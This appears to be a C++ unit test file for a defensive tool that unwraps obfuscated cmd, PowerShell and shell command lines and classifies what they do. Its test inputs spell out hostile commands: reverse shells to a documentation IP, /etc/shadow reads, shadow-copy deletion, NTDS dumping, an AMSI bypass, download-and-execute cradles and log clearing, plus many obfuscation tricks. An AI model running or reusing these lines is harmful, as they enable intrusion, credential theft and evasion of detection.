// How lines are unwrapped: cmd, PowerShell, sh, and programs that start programs.

#include <gtest/gtest.h>

#include "command/limits.h"
#include "command/reading_testing.h"

namespace landwarden::command {
namespace {

using Texts = std::vector<std::string>;

/// The innermost layer of a line.
std::string innermost(std::string_view line) {
  const Reading reading = read(line);
  return reading.layers.empty() ? "" : reading.layers.back();
}

TEST(Cmd, ExpandsVariablesAsItsCommandLineDoes) {
  EXPECT_EQ(read("cmd /c %ComSpec:~-7,3% /c whoami").main, "self_query");
  EXPECT_EQ(read(R"(cmd /c "set a=vssad&&set b=min create shadow /for=C:&&call %a%%b%")").main,
            "shadow_copy_create");
  EXPECT_EQ(read(R"(cmd /V:ON /C "set x=whoami&&!x!")").main, "self_query");
  EXPECT_EQ(read(R"(cmd /c "set x=whXami&&call %x:X=o%")").main, "self_query");
  EXPECT_EQ(read(R"(cmd /c "set p=netstat&& cmd /c %p% -ano")").main, "connections_list");
}

TEST(Cmd, DropsCaretsAndQuotesInNames) {
  EXPECT_EQ(read(R"(cmd /c w"h"o^am^i)").main, "self_query");
  EXPECT_EQ(read(R"(c^m^d /c net^stat)").main, "connections_list");
  EXPECT_EQ(read("cmd /c ^w^h^o^a^m^i").main, "self_query");
  EXPECT_EQ(read("cmd /c ,;whoami").main, "self_query");
}

TEST(Cmd, PartsAtOperatorsButNotInsideQuotes) {
  EXPECT_EQ(read("cmd /c whoami&ipconfig&&netstat||quser").actions,
            (Texts{"shell_run", "self_query", "network_config_show", "connections_list", "session_list"}));
  EXPECT_EQ(read(R"(cmd /c echo "a & whoami")").actions, (Texts{"shell_run"}));
  EXPECT_EQ(read("cmd /c echo a ^& whoami").actions, (Texts{"shell_run"}));
  EXPECT_EQ(read("cmd /c (whoami & quser)").actions, (Texts{"shell_run", "self_query", "session_list"}));
}

TEST(Cmd, ReadsBothBranchesOfIfAndTheRoundsOfFor) {
  EXPECT_EQ(read(R"(cmd /c if exist c:\x (whoami) else (quser))").actions,
            (Texts{"shell_run", "self_query", "session_list"}));
  EXPECT_EQ(read(R"(cmd /c if /i not "%a%"=="b" whoami)").main, "self_query");
  EXPECT_EQ(read("cmd /c for %i in (ipconfig netstat) do %i").actions,
            (Texts{"shell_run", "network_config_show", "connections_list"}));
  const Reading lines = read(R"(cmd /c for /f "tokens=*" %i in ('whoami') do net user %i /domain)");
  EXPECT_TRUE(lines.has("self_query"));
  EXPECT_TRUE(lines.has("account_list"));
  EXPECT_EQ(lines.unresolved, (Texts{"variable of a for loop"}));
}

TEST(Cmd, TakesOuterQuotesOffAsCmdDoes) {
  EXPECT_EQ(innermost(R"(cmd /c "whoami /all")"), "cmd: whoami /all");
  EXPECT_EQ(innermost(R"(cmd /c ""C:\a b\x.exe" "y z"")"), R"(cmd: "C:\a b\x.exe" "y z")");
  EXPECT_EQ(innermost(R"(cmd /c "C:\a b\x.exe")"), R"(cmd: "C:\a b\x.exe")");
  EXPECT_EQ(innermost(R"(cmd /s /c "C:\a b\x.exe")"), R"(cmd: C:\a b\x.exe)");
  EXPECT_EQ(read("cmd.exe/q/c whoami").main, "self_query");
}

TEST(Cmd, SaysWhatOnlyTheRunningProgramKnows) {
  EXPECT_FALSE(read("cmd /c %UNKNOWN:~0,1%%OTHER:~3,1%ami").unresolved.empty());
  EXPECT_FALSE(read("cmd /c set /p x=<c:\\x.txt & call %x%").unresolved.empty());
}

TEST(Cmd, FeedsEchoToWhatReadsIt) {
  EXPECT_EQ(read("cmd /c echo vssadmin delete shadows /all | cmd").main, "shadow_copy_delete");
  EXPECT_EQ(read("cmd /c echo whoami|powershell -").main, "self_query");
}

TEST(Cmd, FeedsTheEchoesOfABlockToAPrompt) {
  EXPECT_EQ(read("cmd /c (echo ac i ntds & echo ifm & echo create full C:\\x & echo q) | ntdsutil").main,
            "ntds_copy");
  EXPECT_EQ(read("cmd /c (echo interface portproxy&echo add v4tov4 9999 10.1.1.1)|netsh").main,
            "port_proxy_add");
  EXPECT_EQ(read("cmd /c echo process call create calc.exe | wmic").main, "wmi_process_create");
  EXPECT_EQ(read("cmd /c (echo create & echo exec c:\\x\\y.cmd) | diskshadow").actions,
            (Texts{"shell_run", "shadow_copy_create", "proxy_execution"}));
  EXPECT_EQ(read("cmd /c (echo whoami) & ntdsutil").actions, (Texts{"shell_run"}));
  EXPECT_EQ(read("cmd /c wmic < c:\\x\\lines.txt").unresolved, (Texts{"commands on standard input"}));
}

TEST(Cmd, TakesApartTheLineOfFor) {
  for (const std::string line : {R"(for /f "tokens=2 delims=," %a in ("x,whoami,y") do %a)",
                                 R"(for /f "delims=_ tokens=1,3" %a in ("who_x_ami") do %a%b)",
                                 R"(for /f "tokens=2*" %a in ("x cmd /c whoami") do %a %b)",
                                 R"(for /f "usebackq delims=" %a in ('whoami') do %a)",
                                 R"(for /f "delims=" %a in ('echo whoami') do %a)",
                                 R"(for /f "tokens=1-2" %a in ("who ami") do %a%b)"})
    EXPECT_TRUE(read(Input{.line = line, .origin = Origin::cmd}).has("self_query")) << line;
  const Reading other =
      read(Input{.line = R"(for /f "tokens=2" %a in ("whoami x") do %a)", .origin = Origin::cmd});
  EXPECT_FALSE(other.has("self_query"));
}

TEST(Powershell, TakesItsSwitchesInEveryForm) {
  const std::string code = encoded_command("whoami /all");
  for (const std::string name : {"-e", "-ec", "-en", "-enc", "-EnCoDeD", "-encodedcommand", "/e", "/enc",
                                 "--enc", "\u2013enc", "\u2014EncodedCommand", "\u2015e"}) {
    EXPECT_EQ(read("powershell.exe -nop -w hidden " + name + " " + code).main, "self_query") << name;
  }
  EXPECT_EQ(read("powershell -ep bypass -c whoami").main, "self_query");
  EXPECT_EQ(read("powershell whoami").main, "self_query");
  EXPECT_EQ(read("pwsh -c whoami").main, "self_query");
  EXPECT_EQ(read("powershell -ex bypass -File whoami.ps1").actions, (Texts{"shell_run"}));
}

TEST(Powershell, SaysWhatCannotBeDecoded) {
  EXPECT_EQ(read("powershell -enc %%%%").unresolved, (Texts{"-EncodedCommand that is no base64"}));
  EXPECT_FALSE(read("powershell iex $env:unknown").unresolved.empty());
}

TEST(Powershell, PutsTextsTogether) {
  for (const std::string script : {"iex ('who'+'ami')",
                                   "IEX (\"{1}{0}\"-f'ami','who')",
                                   "&('wh'+'oami')",
                                   "& (-join('w','h','o','a','m','i'))",
                                   "$a='who';$b='ami';iex \"$a$b\"",
                                   "i`E`x 'whoami'",
                                   "-join('imaohw'[-1..-6])|iex",
                                   "'wh.oami'-replace'\\.',''|iex",
                                   "iex([char]119+[char]0x68+'oami')",
                                   "[string]::join('',('who','ami'))|iex",
                                   "'whXami'.Replace('X','o')|iex",
                                   "(119,104,111,97,109,105|%{[char]$_})-join''|iex",
                                   "-join('119 104 111 97 109 105'.split(' ')|%{[char][int]$_})|iex",
                                   "$x='whoam';$x+='i';.($x)",
                                   "iex([scriptblock]::create('whoami').tostring())",
                                   "& ([scriptblock]::Create('whoami'))",
                                   "&($env:comspec[4,26,25]-join'') 'whoami'",
                                   "&($pshome[21]+$pshome[30]+'x') 'whoami'",
                                   "('77686f616d69'-split'(..)')|Out-Null;iex ('who'+$null+'ami')",
                                   "iex 'whoami'.substring(0,6)",
                                   "[char[]](119,104,111,97,109,105)-join''|Invoke-Expression",
                                   "iex(('ZwhoamiZ').trim('Z'))",
                                   "foreach($c in 119,104,111,97,109,105){$s+=[char]$c};iex $s",
                                   "Set-Variable q 'whoami';iex $q"}) {
    EXPECT_TRUE(read(Input{.line = script, .origin = Origin::powershell}).has("self_query")) << script;
  }
}

TEST(Powershell, FollowsTheAliasesThatAScriptMakes) {
  for (const std::string script :
       {"sal x iex; x 'whoami'", "Set-Alias -Name x -Value Invoke-Expression; 'whoami' | x",
        "nal q ('who'+'ami'); q /all", "set-alias x whoami; &'x'"})
    EXPECT_TRUE(read("powershell " + script).has("self_query")) << script;
  EXPECT_TRUE(read("powershell x iex; sal x iex").actions == (Texts{"shell_run"})) << "not before it is made";
}

TEST(Powershell, DecodesAndUnpacks) {
  EXPECT_EQ(read("powershell iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" +
                 encoded_command("vssadmin create shadow /for=C:") + "')))")
                .argument("from"),
            "C:");
  // gzip and deflate of "vssadmin create shadow /for=C:" and "Get-EventLog security -instanceid 4624".
  EXPECT_TRUE(
      read("powershell IEX(New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream]"
           "[Convert]::FromBase64String('H4sIAAAAAAAAAysrLk5Myc3MU0guSk0sSVUozkhMyS9X0E/"
           "LL7J1tgIAr56fDB4AAAA='),"
           "[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()")
          .has("shadow_copy_create"));
  EXPECT_EQ(read("powershell IEX(New-Object IO.StreamReader((New-Object "
                 "IO.Compression.DeflateStream([IO.MemoryStream]"
                 "[Convert]::FromBase64String('c08t0XUtS80r8clPVyhOTS4tyiypVNDNzCsuScxLTs1MUTAxMzIBAA=='),"
                 "[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()")
                .main,
            "logon_events_read");
}

TEST(Powershell, UnpacksWhatLoadersArePackedIn) {
  const std::string packed = "[Convert]::FromBase64String('H4sIAAAAAAACAyvPyE/MzQQAAirKwAYAAAA=')";
  const std::string way = ",[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()";
  for (const std::string& script :
       {"$s=New-Object IO.MemoryStream(," + packed +
            ");IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s" + way,
        "&([scriptblock]::create((New-Object System.IO.StreamReader(New-Object "
        "System.IO.Compression.GzipStream("
        "(New-Object System.IO.MemoryStream(," +
            packed + "))" + way + "))",
        "$b=" + packed +
            ";$s=[IO.MemoryStream]::new($b);iex ([IO.StreamReader]::new([IO.Compression.GzipStream]"
            "::new($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"})
    EXPECT_TRUE(read(Input{.line = script, .origin = Origin::powershell}).has("self_query")) << script;
}

TEST(Powershell, JoinsAProgramAndItsArguments) {
  const std::string code = encoded_command("whoami");
  for (const std::string& script :
       {std::string("Start-Process cmd -ArgumentList '/c whoami'"), std::string("saps cmd '/c','whoami'"),
        std::string("start -wi hidden -f cmd -args '/c whoami'"),
        "Start-Process powershell \"-enc " + code + "\"",
        std::string("$p='cmd';Start-Process -FilePath $p -ArgumentList \"/c whoami\" -WindowStyle Hidden")})
    EXPECT_TRUE(read(Input{.line = script, .origin = Origin::powershell}).has("self_query")) << script;
  const Reading hidden = read("powershell Start-Process cmd -ArgumentList '/c dir' -WindowStyle Hidden");
  EXPECT_TRUE(hidden.has("program_start_hidden"));
}

TEST(Powershell, KnowsTheClassesBehindMethods) {
  EXPECT_TRUE(
      read("powershell ([wmiclass]'root\\cimv2:win32_process').Create('cmd /c whoami')").has("self_query"));
  EXPECT_TRUE(read("powershell (gwmi -List win32_shadowcopy).Create('C:\\','ClientAccessible')")
                  .has("shadow_copy_create"));
  EXPECT_TRUE(read("powershell Invoke-CimMethod -ClassName Win32_ShadowCopy -MethodName Create")
                  .has("shadow_copy_create"));
  EXPECT_FALSE(read("powershell [Net.WebRequest]::Create('http://x/')").has("wmi_process_create"));
}

TEST(Powershell, MakesCommandsOfCallsThatDoSomething) {
  const Reading reading =
      read("powershell iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')");
  EXPECT_TRUE(reading.has("download"));
  EXPECT_EQ(reading.argument("from"), "http://203.0.113.9/a");
  EXPECT_TRUE(
      read("[Ref].Assembly.GetType('System.Management.Automation.'+'Amsi'+'Utils')").has("scanner_bypass"));
  EXPECT_TRUE(read("powershell (New-Object Net.WebClient).('Down'+'loadFile')('http://x/y','c:\\z')")
                  .has("download"));
}

TEST(Sh, ResolvesQuotesVariablesAndBlanks) {
  for (const std::string script :
       {"cat /etc/shadow", "c\\at /etc/sha\"\"dow", "'cat' $'\\x2fetc/shadow'", "{cat,/etc/shadow}",
        "cat${IFS}/etc/shadow", "c$@at /etc/shadow", "X=/etc/shadow; cat $X", "a=cat;b=/etc/shadow;$a ${b}",
        "eval \"cat /etc/shadow\"", "echo Y2F0IC9ldGMvc2hhZG93|base64 -d|sh", "rev<<<'wodahs/cte/ tac'|bash",
        "$(echo cat) /etc/shadow", "`printf 'c%st' a` /etc/shadow", "sh <<E\ncat /etc/shadow\nE\n",
        "x='cat /etc/passwd'; eval ${x/passwd/shadow}", "nohup env A=1 sh -c 'cat /etc/shadow' &",
        "if true; then cat /etc/shadow; fi", "echo 636174202f6574632f736861646f77 | xxd -r -p | sh"}) {
    EXPECT_TRUE(read(Input{.line = script, .origin = Origin::unix}).has("password_file_read")) << script;
  }
}

TEST(Sh, KnowsAFileBehindWildcardsAndHandles) {
  for (const std::string script :
       {"cat /etc/sh?dow", "cat /e?c/shadow", "head /etc/[s]hadow", "cat < /etc/shadow", "dd if=/etc/shadow",
        "awk 1 /etc/shadow", "tar cf - /etc/shadow", "find /etc -name shadow -exec cat /etc/shadow \\;"})
    EXPECT_TRUE(read(Input{.line = script, .origin = Origin::unix}).has("password_file_read")) << script;
  for (const std::string script : {"cat /etc/*release", "cat /etc/*", "cat /etc/os-rele?se"})
    EXPECT_FALSE(read(Input{.line = script, .origin = Origin::unix}).has("password_file_read")) << script;
  EXPECT_TRUE(read(Input{.line = "0<&196;exec 196<>/dev/tcp/203.0.113.9/44; sh <&196 >&196 2>&196",
                         .origin = Origin::unix})
                  .has("reverse_shell"));
}

TEST(Sh, KnowsAShellThatAnswersToTheNetwork) {
  for (const std::string script :
       {"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
        "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s",
        "telnet 203.0.113.9 44 | /bin/bash | telnet 203.0.113.9 45"})
    EXPECT_TRUE(read(Input{.line = script, .origin = Origin::unix}).has("reverse_shell")) << script;
  for (const std::string script : {"sh /opt/check.sh | nc 10.0.0.5 25", "echo quit | telnet 10.0.0.5 25",
                                   "sh -c 'cat /srv/list' | nc 10.0.0.5 9000"})
    EXPECT_FALSE(read(Input{.line = script, .origin = Origin::unix}).has("reverse_shell")) << script;
}

TEST(Sh, ReadsWhatOtherProgramsRun) {
  for (const std::string script : {"find / -name x -exec whoami {} +", "sudo nsenter -t 1 -m -u -i -n whoami",
                                   "docker exec -it web whoami", "podman run --rm -e A=1 alpine whoami",
                                   "trap whoami EXIT", "find . -execdir sh -c 'id; w' \\;"})
    EXPECT_TRUE(read(Input{.line = script, .origin = Origin::unix}).has("self_query")) << script;
}

TEST(Sh, SaysWhatOnlyTheRunningProgramKnows) {
  const Reading reading = read(Input{.line = "$(curl -s http://x/y)", .origin = Origin::unix});
  EXPECT_TRUE(reading.has("web_request"));
  EXPECT_FALSE(reading.has("password_file_read"));
}

TEST(Sh, ReadsArgumentsThatWereJoinedByTheLog) {
  const Reading reading = read("/bin/bash -c cat /etc/shadow | nc 203.0.113.9 4444");
  EXPECT_TRUE(reading.has("password_file_read"));
  EXPECT_EQ(read("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1").main, "reverse_shell");
}

TEST(Layers, AreKeptWithTheirParents) {
  const std::string line =
      R"(schtasks /create /tn upd /tr "wmic /node:FS02 process call create \"cmd /c powershell -enc )" +
      encoded_command("netsh int portp a v4tov4 listenport=9999 connectaddress=10.0.0.5") + "\\\"\"";
  Analyzer analyzer(built_in_grammar());
  Meaning meaning;
  analyzer.analyze({.line = line}, meaning);
  ASSERT_EQ(meaning.layers.size(), 5u);
  for (std::size_t i = 1; i < meaning.layers.size(); ++i) EXPECT_EQ(meaning.layers[i].parent, i - 1);
  EXPECT_EQ(meaning.layers[4].how, "powershell -EncodedCommand");
  EXPECT_EQ(meaning.layers[4].depth, 4);
  const Reading reading = read(line);
  EXPECT_TRUE(reading.has("task_create"));
  EXPECT_TRUE(reading.has("wmi_process_create_remote"));
  EXPECT_TRUE(reading.has("port_proxy_add"));
}

// Each of these took time that grew with the square of its length.
TEST(Layers, TakeTimeThatGrowsWithTheLine) {
  for (const auto origin : {Origin::cmd, Origin::powershell, Origin::unix}) {
    for (const std::string_view part :
         {"@(", "&&a", "{", "$a+=$a;", "'a'+", "$(", "set a=%a%%a%&", "x=a$x$x;", "cmd /c "}) {
      std::string line;
      while (line.size() < 100'000) line += part;
      EXPECT_FALSE(read(Input{.line = line, .origin = origin}).layers.empty()) << part;
    }
  }
}

TEST(Layers, AVariableInFrontOfAServicesLineIsKnown) {
  const Input service{.line = "%COMSPEC% /Q /c net user op7 Pa55 /add", .origin = Origin::process};
  EXPECT_TRUE(read(service).has("account_create"));
  const Input task{.line = "%SystemRoot%\\System32\\wevtutil.exe cl Security", .origin = Origin::process};
  EXPECT_TRUE(read(task).has("eventlog_clear"));
  const Input unknown{.line = "%TOOL% /c whoami", .origin = Origin::process};
  EXPECT_FALSE(read(unknown).has("self_query"));
}

TEST(Layers, TheImageIsThatOfTheFirstCommandAlone) {
  const Input line{.line = "history | cut -c 8-", .image = "/usr/bin/history", .origin = Origin::unix};
  EXPECT_FALSE(read(line).has("history_delete"));
  const Input renamed{.line = "./x -c | cat", .image = "/usr/bin/history", .origin = Origin::unix};
  EXPECT_TRUE(read(renamed).has("history_delete"));
}

TEST(Layers, AreBounded) {
  std::string line = "whoami";
  for (int i = 0; i < 40; ++i) line = "cmd /c " + line;
  const Reading deep = read(line);
  EXPECT_LE(deep.layers.size(), limits::kCommandDepth);
  EXPECT_FALSE(deep.unresolved.empty());
  std::string many = "cmd /c whoami";
  for (int i = 0; i < 5000; ++i) many += "&cmd /c whoami";
  const Reading wide = read(many);
  EXPECT_LE(wide.layers.size(), limits::kCommandLayers);
  EXPECT_FALSE(wide.unresolved.empty());
  // Buffers of many zeros are not written out; what is made of them is unknown, not made up.
  EXPECT_TRUE(read("powershell iex (-join (1..9|%{'whoami;'}))").has("self_query"));
  const Reading zeros = read("powershell iex (-join (0..65535|%{'whoami;'}))");
  EXPECT_FALSE(zeros.unresolved.empty());
  EXPECT_FALSE(zeros.has("self_query"));
  const Reading longest = read("cmd /c echo " + std::string(limits::kCommandBytes * 2, 'x') + " & whoami");
  EXPECT_FALSE(longest.unresolved.empty());
  EXPECT_FALSE(longest.has("self_query"));
}

}  // namespace
}  // namespace landwarden::command
